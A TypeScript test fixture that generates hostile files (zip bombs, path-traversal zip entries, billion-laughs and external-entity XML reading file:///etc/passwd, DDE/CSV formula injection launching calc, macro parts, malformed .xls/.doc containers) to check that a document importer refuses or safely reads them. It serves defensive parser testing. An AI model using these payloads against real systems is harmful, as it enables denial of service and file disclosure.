import { deflateRawSync } from 'node:zlib';
import type { DocumentProblemCode } from '@genjin/domain/document-problem';
import { compoundOf } from './build-compound.ts';
import {
  contentTypes,
  docx,
  docxParts,
  relationships,
  sheetMain,
  textRows,
  xlsx,
  xlsxParts,
  zipOf,
} from './build-office.ts';
import { type RawEntry, rawZip } from './build-zip.ts';

/** A file made to do harm, and what may become of it: refused with one of these codes, or read (`null`), harmlessly. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly bytes: () => Uint8Array | string;
  readonly outcome: DocumentProblemCode | null;
}

const sheetXml = (inside: string) =>
  `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${inside}</worksheet>`;
const sheetPart = 'xl/worksheets/sheet1.xml';
const one = { sheets: [{ name: 's', rows: textRows([['a']]) }] };
const oneSheet = (rows: string, more = '') => xlsx({ sheets: [{ name: 's', rows, after: more }] });
const withPart = (part: string, content: string | Uint8Array) => xlsx(one, { [part]: content });

/** The entries of a zip, of which one can be changed. */
function entriesOf(parts: Readonly<Record<string, string | Uint8Array>>): RawEntry[] {
  return Object.entries(parts).map(([name, part]) => ({ name, content: Buffer.from(part as string) }));
}

function changed(part: string, change: (entry: RawEntry) => RawEntry): Uint8Array {
  return rawZip(entriesOf(xlsxParts(one)).map((entry) => (entry.name === part ? change(entry) : entry)));
}

const laughs = `<!DOCTYPE lolz [<!ENTITY a0 "ha">${Array.from({ length: 12 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')}]>`;
const tableIn = (content: string) => `<w:tbl><w:tr><w:tc>${content}<w:p/></w:tc></w:tr></w:tbl>`;

const zips: readonly HostileFile[] = [
  {
    what: 'a part of 200 MB of blanks',
    name: 'bomb.xlsx',
    bytes: () => {
      const packed = deflateRawSync(Buffer.alloc(200 * 1024 * 1024, 32), { level: 1 });
      return changed(sheetPart, (entry) => ({ ...entry, packed, size: 200 * 1024 * 1024 }));
    },
    outcome: 'damaged',
  },
  {
    what: 'a part of 200 MB of rows',
    name: 'bomb.xlsx',
    bytes: () => {
      const size = 200 * 1024 * 1024;
      const rows = Buffer.alloc(size, '<row><c><v>1</v></c><c><v>23456</v></c></row>');
      return changed(sheetPart, () => ({
        name: sheetPart,
        content: Buffer.concat([Buffer.from('<worksheet><sheetData>'), rows]),
        level: 1,
      }));
    },
    outcome: 'too_many_rows',
  },
  {
    what: 'rows that pack a thousand to one',
    name: 'rows.xlsx',
    bytes: () => oneSheet('<row><c s="1"/></row>'.repeat(1_048_575).concat(textRows([['a']]))),
    outcome: 'unpacked_too_large',
  },
  {
    what: 'a zip in a zip',
    name: 'nested.xlsx',
    bytes: () => zipOf({ 'inner.zip': zipOf({ 'a.xlsx': xlsx(one) }) }),
    outcome: 'wrong_type',
  },
  {
    what: 'a part that is the same archive again',
    name: 'quine.docx',
    bytes: () => docx('<w:p/>', { 'word/document.xml': zipOf({ 'word/document.xml': 'x' }) }),
    outcome: 'damaged',
  },
  {
    what: 'entries that share their bytes',
    name: 'overlap.xlsx',
    bytes: () => changed(sheetPart, (entry) => ({ ...entry, offset: 0 })),
    outcome: 'damaged',
  },
  {
    what: 'a header that promises 10 bytes for 1 MB',
    name: 'lying.xlsx',
    bytes: () => changed(sheetPart, () => ({ name: sheetPart, content: Buffer.alloc(1024 * 1024, 60), size: 10 })),
    outcome: 'damaged',
  },
  {
    what: 'a wrong checksum',
    name: 'crc.xlsx',
    bytes: () => changed(sheetPart, (entry) => ({ ...entry, crc: 1 })),
    outcome: 'damaged',
  },
  {
    what: 'the encryption flag',
    name: 'locked.xlsx',
    bytes: () => changed(sheetPart, (entry) => ({ ...entry, flags: 1 })),
    outcome: 'encrypted',
  },
  {
    what: 'two parts of one name',
    name: 'twice.xlsx',
    bytes: () => rawZip([...entriesOf(xlsxParts(one)), { name: sheetPart.toUpperCase(), content: Buffer.from('x') }]),
    outcome: 'damaged',
  },
  {
    what: 'names that climb out of the folder',
    name: 'slip.xlsx',
    bytes: () =>
      rawZip([...entriesOf(xlsxParts(one)), { name: '../../../tmp/genjin-slip', content: Buffer.from('x') }]),
    outcome: null,
  },
  {
    what: 'absolute names, of Windows too',
    name: 'absolute.xlsx',
    bytes: () =>
      rawZip([
        ...entriesOf(xlsxParts(one)),
        { name: '/etc/genjin', content: Buffer.from('x') },
        { name: 'C:\\genjin', content: Buffer.from('x') },
      ]),
    outcome: null,
  },
  {
    what: '3,000 entries',
    name: 'many.xlsx',
    bytes: () =>
      rawZip([
        ...entriesOf(xlsxParts(one)),
        ...Array.from({ length: 3000 }, (_, at) => ({ name: `x/${at}`, content: Buffer.alloc(0) })),
      ]),
    outcome: 'too_many_parts',
  },
  { what: 'half of a zip', name: 'half.xlsx', bytes: () => xlsx(one).subarray(0, 900), outcome: 'damaged' },
  {
    what: 'a part that cannot be inflated',
    name: 'garbled.xlsx',
    bytes: () => changed(sheetPart, (entry) => ({ ...entry, packed: Buffer.alloc(400, 0xff), size: 5000 })),
    outcome: 'damaged',
  },
  {
    what: 'an unknown way of compression',
    name: 'method.xlsx',
    bytes: () => changed(sheetPart, (entry) => ({ ...entry, method: 99 })),
    outcome: 'damaged',
  },
];

const workbooks: readonly HostileFile[] = [
  {
    what: 'a million rows without content',
    name: 'a.xlsx',
    bytes: () => oneSheet(Array.from({ length: 1_048_576 }, (_, at) => `<row r="${at + 1}"/>`).join('')),
    outcome: null,
  },
  {
    what: 'row 20,000,000',
    name: 'a.xlsx',
    bytes: () => oneSheet('<row r="20000000"><c r="A20000000"><v>1</v></c></row>'),
    outcome: 'damaged',
  },
  {
    what: 'a row that is no number',
    name: 'a.xlsx',
    bytes: () => oneSheet('<row r="1e9"><c><v>1</v></c></row>'),
    outcome: 'damaged',
  },
  {
    what: '17,000 columns',
    name: 'a.xlsx',
    bytes: () => oneSheet(`<row>${'<c><v>1</v></c>'.repeat(17_000)}</row>`),
    outcome: 'too_many_columns',
  },
  {
    what: 'one cell at XFD1048576',
    name: 'a.xlsx',
    bytes: () => oneSheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    outcome: 'too_many_columns',
  },
  {
    what: 'one cell at A1048576',
    name: 'a.xlsx',
    bytes: () => oneSheet('<row r="1048576"><c r="A1048576"><v>1</v></c></row>'),
    outcome: 'too_many_rows',
  },
  {
    what: 'dimensions of everything',
    name: 'a.xlsx',
    bytes: () =>
      withPart(
        sheetPart,
        sheetXml('<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384"/></cols><sheetData/>'),
      ),
    outcome: null,
  },
  {
    what: 'a billion laughs',
    name: 'a.xlsx',
    bytes: () =>
      withPart(
        sheetPart,
        `<?xml version="1.0"?>${laughs}${sheetXml('<sheetData><row><c t="str"><v>&a12;</v></c></row></sheetData>')}`,
      ),
    outcome: 'doctype',
  },
  {
    what: 'an entity without its declaration',
    name: 'a.xlsx',
    bytes: () => oneSheet('<row><c t="str"><v>&lol;</v></c></row>'),
    outcome: 'damaged',
  },
  {
    what: 'an external entity',
    name: 'a.xlsx',
    bytes: () =>
      withPart(
        'xl/sharedStrings.xml',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><sst><si><t>&e;</t></si></sst>',
      ),
    outcome: 'doctype',
  },
  {
    what: 'a DOCTYPE in the content types',
    name: 'a.xlsx',
    bytes: () => withPart('[Content_Types].xml', `<!DOCTYPE x>${contentTypes(['xl/workbook.xml', sheetMain])}`),
    outcome: 'doctype',
  },
  {
    what: 'a billion laughs in UTF-16',
    name: 'a.xlsx',
    bytes: () => withPart(sheetPart, Buffer.from(`\uFEFF${laughs}${sheetXml('&a12;')}`, 'utf16le')),
    outcome: 'doctype',
  },
  {
    what: 'XML 10,000 levels deep',
    name: 'a.xlsx',
    bytes: () => withPart(sheetPart, sheetXml(`${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`)),
    outcome: 'too_deep',
  },
  {
    what: 'an attribute of 20 MB',
    name: 'a.xlsx',
    bytes: () => withPart(sheetPart, sheetXml(`<sheetData a="${Buffer.alloc(20 * 1024 * 1024, 'ab7').toString()}"/>`)),
    outcome: 'damaged',
  },
  {
    what: 'an attribute of 6 MB that packs badly',
    name: 'a.xlsx',
    bytes: () => withPart(sheetPart, sheetXml(`<sheetData a="${noise(6 * 1024 * 1024)}"/>`)),
    outcome: 'damaged',
  },
  {
    what: 'a shared text that is not there',
    name: 'a.xlsx',
    bytes: () => oneSheet('<row><c t="s"><v>99999999</v></c></row>'),
    outcome: 'damaged',
  },
  {
    what: 'a million shared texts',
    name: 'a.xlsx',
    bytes: () =>
      xlsx({ ...one, shared: Array.from({ length: 1_000_000 }, (_, at) => `<si><t>${at}</t></si>`).join('') }),
    outcome: null,
  },
  {
    what: 'shared texts of 80 MB',
    name: 'a.xlsx',
    bytes: () => xlsx({ ...one, shared: `<si><t>${noise(30_000)}</t></si>`.repeat(2700) }),
    outcome: 'unpacked_too_large',
  },
  {
    what: 'one shared text of 10 MB, in pieces',
    name: 'a.xlsx',
    bytes: () => xlsx({ ...one, shared: `<si>${'<r><t>abcdefghij</t></r>'.repeat(1_000_000)}</si>` }),
    outcome: 'cell_too_long',
  },
  {
    what: '100,000 styles',
    name: 'a.xlsx',
    bytes: () => xlsx({ ...one, styles: `<cellXfs>${'<xf numFmtId="14"/>'.repeat(100_000)}</cellXfs>` }),
    outcome: 'damaged',
  },
  {
    what: '100,000 merged cells',
    name: 'a.xlsx',
    bytes: () => oneSheet(textRows([['a']]), `<mergeCells>${'<mergeCell ref="A1:B2"/>'.repeat(100_000)}</mergeCells>`),
    outcome: null,
  },
  {
    what: '500 sheets',
    name: 'a.xlsx',
    bytes: () => xlsx({ sheets: Array.from({ length: 500 }, (_, at) => ({ name: `s${at}`, rows: '' })) }),
    outcome: 'too_many_sheets',
  },
  {
    what: 'formulas that call programs',
    name: 'a.xlsx',
    bytes: () =>
      oneSheet(
        '<row><c t="str"><f>cmd|\'/c calc\'!A0</f><v>shown</v></c><c><f>HYPERLINK("http://x/?"&amp;A1)</f></c><c t="str"><f>DDE("cmd")</f><v/></c></row>',
      ),
    outcome: null,
  },
  {
    what: 'headings called __proto__ and constructor',
    name: 'a.xlsx',
    bytes: () =>
      oneSheet(
        textRows([
          ['__proto__', 'constructor', 'toString'],
          ['a', 'b', 'c'],
        ]),
      ),
    outcome: null,
  },
  {
    what: 'attributes called __proto__',
    name: 'a.xlsx',
    bytes: () => oneSheet('<row __proto__="1" constructor="2"><c __proto__="x"><v>1</v></c></row>'),
    outcome: null,
  },
  {
    what: 'a workbook with macros, renamed',
    name: 'a.xlsx',
    bytes: () => withPart('xl/vbaProject.bin', 'x'),
    outcome: 'macros',
  },
  {
    what: 'a type with macros, renamed',
    name: 'a.xlsx',
    bytes: () =>
      withPart(
        '[Content_Types].xml',
        contentTypes(['xl/workbook.xml', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml']),
      ),
    outcome: 'macros',
  },
  {
    what: 'links to other workbooks',
    name: 'a.xlsx',
    bytes: () =>
      withPart(
        'xl/_rels/workbook.xml.rels',
        relationships(
          ['s1', 'worksheet', sheetPart.slice(3)],
          ['x1', 'externalLink', 'http://example.com/x.xlsx', 'External'],
        ),
      ),
    outcome: null,
  },
  {
    what: 'a sheet that is elsewhere',
    name: 'a.xlsx',
    bytes: () =>
      withPart('xl/_rels/workbook.xml.rels', relationships(['s1', 'worksheet', 'file:///etc/passwd', 'External'])),
    outcome: 'damaged',
  },
  {
    what: 'a sheet above the package',
    name: 'a.xlsx',
    bytes: () =>
      withPart('xl/_rels/workbook.xml.rels', relationships(['s1', 'worksheet', '../../../../../etc/passwd'])),
    outcome: 'damaged',
  },
];

const texts: readonly HostileFile[] = [
  {
    what: 'a span of 1,000,000,000 columns',
    name: 'a.docx',
    bytes: () =>
      docx('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'),
    outcome: 'too_many_columns',
  },
  {
    what: 'spans that add up',
    name: 'a.docx',
    bytes: () =>
      docx(
        `<w:tbl>${`<w:tr>${'<w:tc><w:tcPr><w:gridSpan w:val="500"/></w:tcPr><w:p/></w:tc>'.repeat(2)}</w:tr>`.repeat(5000)}</w:tbl>`,
      ),
    outcome: 'too_many_columns',
  },
  {
    what: 'tables 50 deep',
    name: 'a.docx',
    bytes: () => docx(Array.from({ length: 50 }).reduce<string>(tableIn, '<w:p/>')),
    outcome: 'too_deep',
  },
  {
    what: 'tables 3,000 deep',
    name: 'a.docx',
    bytes: () => docx(Array.from({ length: 3000 }).reduce<string>(tableIn, '<w:p/>')),
    outcome: 'too_deep',
  },
  {
    what: 'a DOCTYPE in the text',
    name: 'a.docx',
    bytes: () => zipOf({ ...docxParts(''), 'word/document.xml': `${laughs}<document>&a12;</document>` }),
    outcome: 'doctype',
  },
  {
    what: 'a document with macros, renamed',
    name: 'a.docx',
    bytes: () => docx('<w:p/>', { 'word/vbaProject.bin': 'x' }),
    outcome: 'macros',
  },
  {
    what: 'pictures and templates from elsewhere',
    name: 'a.docx',
    bytes: () =>
      docx('<w:p><w:r><w:t>a</w:t></w:r></w:p>', {
        'word/_rels/document.xml.rels': relationships(
          ['t', 'attachedTemplate', 'http://example.com/x.dotm', 'External'],
          ['i', 'image', 'file:///etc/passwd', 'External'],
        ),
      }),
    outcome: null,
  },
  {
    what: 'a million paragraphs',
    name: 'a.docx',
    bytes: () => docx('<w:p/>'.repeat(1_000_000)),
    outcome: 'too_many_rows',
  },
  {
    what: 'one paragraph of 20 MB',
    name: 'a.docx',
    bytes: () => docx(`<w:p>${'<w:r><w:t>abcdefghijklmnopqrstuvwxyz</w:t></w:r>'.repeat(800_000)}</w:p>`),
    outcome: 'cell_too_long',
  },
  {
    what: '100 MB in one line',
    name: 'a.csv',
    bytes: () => Buffer.alloc(100 * 1024 * 1024, 'a'),
    outcome: 'too_large',
  },
  {
    what: '40 MB in one line',
    name: 'a.csv',
    bytes: () => Buffer.alloc(40 * 1024 * 1024, 'a'),
    outcome: 'cell_too_long',
  },
  {
    what: '20 MB after a quotation mark that is not closed',
    name: 'a.csv',
    bytes: () => Buffer.concat([Buffer.from('a,b\n"'), Buffer.alloc(20 * 1024 * 1024, 'x,\n')]),
    outcome: 'cell_too_long',
  },
  {
    what: 'a line of 10 MB of separators',
    name: 'a.csv',
    bytes: () => Buffer.alloc(10 * 1024 * 1024, ','),
    outcome: 'too_many_columns',
  },
  { what: 'NULs', name: 'a.csv', bytes: () => `姓名,电话\n张\0三,1\n${'客户,2\n'.repeat(30)}`, outcome: null },
  { what: 'UTF-7', name: 'a.csv', bytes: () => 'a,b\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-,1', outcome: null },
  {
    what: 'UTF-8 and GBK mixed',
    name: 'a.csv',
    bytes: () =>
      Buffer.concat([Buffer.from('姓名,电话\n'), Buffer.from([0xd5, 0xc5, 0xc8, 0xfd, 0x2c, 0xff, 0xfe, 0x80, 0x0a])]),
    outcome: null,
  },
  {
    what: 'formulas',
    name: 'a.csv',
    bytes: () => '=cmd|\'/c calc\'!A0,@SUM(1),"=HYPERLINK(""http://x"")"\n',
    outcome: null,
  },
  {
    what: 'a million properties',
    name: 'a.vcf',
    bytes: () => `BEGIN:VCARD\n${'TEL:1\n'.repeat(1_000_000)}END:VCARD`,
    outcome: 'too_many_rows',
  },
  { what: '300,000 cards', name: 'a.vcf', bytes: () => 'BEGIN:VCARD\nEND:VCARD\n'.repeat(300_000), outcome: null },
  {
    what: 'a soft break after every character',
    name: 'a.vcf',
    bytes: () => `BEGIN:VCARD\nNOTE;ENCODING=QUOTED-PRINTABLE:${'a=\n'.repeat(2_000_000)}\nEND:VCARD`,
    outcome: 'cell_too_long',
  },
  {
    what: 'backslashes',
    name: 'a.vcf',
    bytes: () => `BEGIN:VCARD\nN:${'\\'.repeat(5_000_000)}\nEND:VCARD`,
    outcome: 'cell_too_long',
  },
  {
    what: 'HTML with a script, as .xls',
    name: 'a.xls',
    bytes: () =>
      '<html><script src="http://example.com/x.js"></script><table><tr><td onload="x()">a</td></tr></table><iframe src="file:///etc/passwd"></iframe></html>',
    outcome: null,
  },
  {
    what: 'HTML with spans of 1,000,000,000',
    name: 'a.xls',
    bytes: () => '<table><tr><td rowspan=1000000000>a<td colspan=1000000000>b</table>',
    outcome: 'too_many_columns',
  },
  {
    what: 'HTML with a million open tags',
    name: 'a.xls',
    bytes: () => `<table>${'<tr><td><b><script>'.repeat(1_000_000)}`,
    outcome: null,
  },
  {
    what: 'HTML of tables in tables',
    name: 'a.xls',
    bytes: () => '<table><tr><td>'.repeat(100_000),
    outcome: 'too_deep',
  },
];

const begin = Buffer.from([0x09, 0x08, 0x08, 0x00, 0x00, 0x06, 0x05, 0x00, 0, 0, 0, 0]);
const sharedTexts = (declared: number, rest: Buffer) => {
  const head = Buffer.alloc(12);
  head.writeUInt16LE(0x00fc, 0);
  head.writeUInt16LE(8 + rest.length, 2);
  head.writeUInt32LE(declared, 8);
  return Buffer.concat([begin, head, rest, Buffer.from([0x0a, 0, 0, 0])]);
};
const compound = () => compoundOf({ Workbook: Buffer.concat([begin, Buffer.alloc(6000)]) });
const changedCompound = (change: (bytes: Buffer) => void) => {
  const bytes = compound();
  change(bytes);
  return bytes;
};

const oldFiles: readonly HostileFile[] = [
  {
    what: 'an encrypted workbook in its container',
    name: 'a.xlsx',
    bytes: () => compoundOf({ EncryptionInfo: Buffer.alloc(100), EncryptedPackage: Buffer.alloc(5000) }),
    outcome: 'encrypted',
  },
  {
    what: 'an encrypted .xls',
    name: 'a.xls',
    bytes: () => compoundOf({ Workbook: Buffer.concat([begin, Buffer.from([0x2f, 0, 2, 0, 1, 0])]) }),
    outcome: 'encrypted',
  },
  { what: 'half of a compound file', name: 'a.xls', bytes: () => compound().subarray(0, 1400), outcome: 'damaged' },
  {
    what: 'the beginning of a compound file',
    name: 'a.doc',
    bytes: () => compound().subarray(0, 100),
    outcome: 'damaged',
  },
  {
    what: 'a FAT that runs in a circle',
    name: 'a.xls',
    bytes: () =>
      changedCompound((bytes) => {
        for (let at = 512; at < 1024; at += 4) bytes.writeUInt32LE(1, at);
      }),
    outcome: 'damaged',
  },
  {
    what: 'a directory that points at itself',
    name: 'a.xls',
    bytes: () =>
      changedCompound((bytes) => {
        for (const at of [0x44, 0x48, 0x4c]) bytes.writeUInt32LE(1, 1024 + 128 + at);
      }),
    outcome: 'empty',
  },
  {
    what: 'sector counts of four billion',
    name: 'a.xls',
    bytes: () =>
      changedCompound((bytes) => {
        for (const at of [0x2c, 0x40, 0x48]) bytes.writeUInt32LE(0xfffffff0, at);
        bytes.writeUInt32LE(0x7ffffff0, 0x44);
      }),
    outcome: 'empty',
  },
  {
    what: 'sectors of 2^60 bytes',
    name: 'a.xls',
    bytes: () => changedCompound((bytes) => bytes.writeUInt16LE(60, 0x1e)),
    outcome: 'damaged',
  },
  {
    what: 'a stream of four billion bytes',
    name: 'a.xls',
    bytes: () => changedCompound((bytes) => bytes.writeUInt32LE(0xfffffff0, 1024 + 128 + 0x78)),
    outcome: 'damaged',
  },
  {
    what: 'four billion texts declared',
    name: 'a.xls',
    bytes: () => sharedTexts(0xffffffff, Buffer.from([1, 0, 0, 0x61])),
    outcome: 'empty',
  },
  {
    what: 'a text of 65,535 characters in four bytes',
    name: 'a.xls',
    bytes: () => sharedTexts(1, Buffer.from([0xff, 0xff, 1, 0x61])),
    outcome: 'damaged',
  },
  {
    what: 'a record that reaches past the end',
    name: 'a.xls',
    bytes: () => Buffer.concat([begin, Buffer.from([0x85, 0, 0xff, 0xff, 1])]),
    outcome: 'damaged',
  },
  {
    what: 'a .doc of zeros',
    name: 'a.doc',
    bytes: () => compoundOf({ WordDocument: Buffer.alloc(6000) }),
    outcome: 'old_format_unreadable',
  },
  {
    what: 'a .doc whose every number is huge',
    name: 'a.doc',
    bytes: () => compoundOf({ WordDocument: hugeWord(), '0Table': Buffer.alloc(5000, 0xff) }),
    outcome: 'damaged',
  },
  {
    what: 'a .doc whose pieces share their bytes',
    name: 'a.doc',
    bytes: () => compoundOf({ WordDocument: sharingWord(), '0Table': sharingPieces() }),
    outcome: 'unpacked_too_large',
  },
  {
    what: 'a program',
    name: 'a.xlsx',
    bytes: () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(5000)]),
    outcome: 'wrong_type',
  },
  { what: 'a PDF', name: 'a.docx', bytes: () => '%PDF-1.7\n', outcome: 'wrong_type' },
  {
    what: 'a picture',
    name: 'a.xls',
    bytes: () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    outcome: 'wrong_type',
  },
  {
    what: 'SVG',
    name: 'a.csv',
    bytes: () => '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
    outcome: 'wrong_type',
  },
  {
    what: 'random bytes',
    name: 'a.csv',
    bytes: () => Buffer.from(noise(4000, true), 'latin1'),
    outcome: 'unknown_type',
  },
  { what: 'nothing', name: 'a.xlsx', bytes: () => '', outcome: 'empty' },
];

export const hostileFiles: readonly HostileFile[] = [...zips, ...workbooks, ...texts, ...oldFiles];

/** Text that hardly packs, the same each time. */
function noise(length: number, anyByte = false): string {
  const bytes = Buffer.alloc(length);
  let state = 12_345;
  for (let at = 0; at < length; at++) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    bytes[at] = anyByte ? state >>> 24 : 97 + ((state >>> 16) % 26);
  }
  return bytes.toString('latin1');
}

function wordOf(bodyLength: number, pieces: readonly [at: number, length: number]): Buffer {
  const word = Buffer.alloc(6000);
  word.writeUInt16LE(0xa5ec, 0);
  word.writeUInt16LE(0xc1, 2);
  word.writeUInt32LE(bodyLength, 0x4c);
  word.writeUInt32LE(pieces[0], 154 + 33 * 8);
  word.writeUInt32LE(pieces[1], 158 + 33 * 8);
  return word;
}

function hugeWord(): Buffer {
  const word = wordOf(0xffffffff, [0xfffffff0, 0xfffffff0]);
  word.fill(0xff, 0x100);
  return word;
}

const sharingCount = 400;

function sharingWord(): Buffer {
  return wordOf(0x7fffffff, [0, 5 + 4 + sharingCount * 12]);
}

/** Each piece is the whole of the stream again, a hundred thousand characters long. */
function sharingPieces(): Buffer {
  const table = Buffer.alloc(5 + 4 + sharingCount * 12);
  table[0] = 2;
  table.writeUInt32LE(4 + sharingCount * 12, 1);
  for (let piece = 0; piece <= sharingCount; piece++) table.writeUInt32LE(piece * 100_000, 5 + piece * 4);
  return table;
}
